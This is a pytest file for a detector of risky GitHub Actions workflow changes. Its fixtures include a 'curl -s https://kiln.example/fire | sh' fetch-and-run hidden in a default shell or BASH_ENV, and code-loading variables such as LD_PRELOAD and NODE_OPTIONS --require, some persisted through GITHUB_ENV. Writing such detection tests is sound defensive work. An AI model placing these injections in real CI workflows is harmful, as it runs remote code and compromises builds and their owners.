"""What a workflow has every shell or program start with."""

import pytest

from changing import changed, seen, shown

PATH = ".github/workflows/kiln.yml"
FETCH = "curl -s https://kiln.example/fire | sh"
LATER = "on: push\njobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          %s\n"
HEAD = "on: push\n{}jobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"


@pytest.mark.parametrize(
    "text",
    [
        HEAD.format(f"defaults:\n  run:\n    shell: bash -c '{FETCH}' {{0}}\n"),
        HEAD.format("") + f"        shell: bash -c '{FETCH}' {{0}}\n",
        HEAD.format(f"env:\n  BASH_ENV: $({FETCH})\n"),
    ],
)
def test_a_shell_that_runs_a_download_first_is_seen(text):
    assert "fetch_and_run" in shown(changed(PATH, None, text))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("BASH_ENV", "./glaze.sh"),
        ("NODE_OPTIONS", "--require ./glaze.js"),
        ("LD_PRELOAD", "./glaze.so"),
        ("JAVA_TOOL_OPTIONS", "-javaagent:glaze.jar"),
        ("GIT_SSH_COMMAND", "tools/glaze -i key"),
    ],
)
def test_a_variable_that_loads_code_is_new_in_ci(name, value):
    for text in (
        HEAD.format(f"env:\n  {name}: {value}\n"),
        HEAD.format("") + f"        env:\n          {name}: {value}\n",
    ):
        assert ("workflow_new_action", name) in {(o.capability, o.sink) for o in seen(changed(PATH, None, text))}


@pytest.mark.parametrize(
    "top",
    [
        "env:\n  NODE_OPTIONS: --max-old-space-size=4096\n",
        "env:\n  LD_PRELOAD: /usr/lib/x86_64-linux-gnu/libasan.so.6\n",
        "env:\n  JAVA_TOOL_OPTIONS: -Xmx2g\n",
        "env:\n  GIT_SSH_COMMAND: ssh -i key -o StrictHostKeyChecking=yes\n",
        "defaults:\n  run:\n    shell: bash -leo pipefail {0}\n",
        "defaults:\n  run:\n    shell: micromamba-shell {0}\n",
    ],
)
def test_ordinary_shells_and_options_show_nothing(top):
    assert not shown(changed(PATH, None, HEAD.format(top)))


@pytest.mark.parametrize(
    "command",
    [
        'echo "NODE_OPTIONS=--require=$PWD/docs/glaze.js" >> $GITHUB_ENV',
        'echo BASH_ENV=docs/glaze.sh >> "$GITHUB_ENV"',
        "echo 'LD_PRELOAD=./glaze.so' | tee -a ${GITHUB_ENV}",
    ],
)
def test_a_variable_that_is_set_for_later_steps_counts_as_one_that_the_file_sets(command):
    assert ("workflow_new_action", 7) in {(o.capability, o.line) for o in seen(changed(PATH, None, LATER % command))}


def test_an_ordinary_variable_that_is_set_for_later_steps_is_quiet():
    command = 'echo "NODE_OPTIONS=--max-old-space-size=4096" >> $GITHUB_ENV; echo "POTS=$PWD/pots" >> $GITHUB_ENV'
    assert "workflow_new_action" not in shown(changed(PATH, None, LATER % command))


@pytest.mark.parametrize("shell", ["bash scripts/glaze {0}", "sh -e ./glaze {0}", "./glaze {0}"])
def test_a_shell_that_is_a_script_of_the_project_is_new_in_ci(shell):
    text = HEAD.format(f"defaults:\n  run:\n    shell: {shell}\n")
    assert ("workflow_new_action", "shell") in {(o.capability, o.sink) for o in seen(changed(PATH, None, text))}
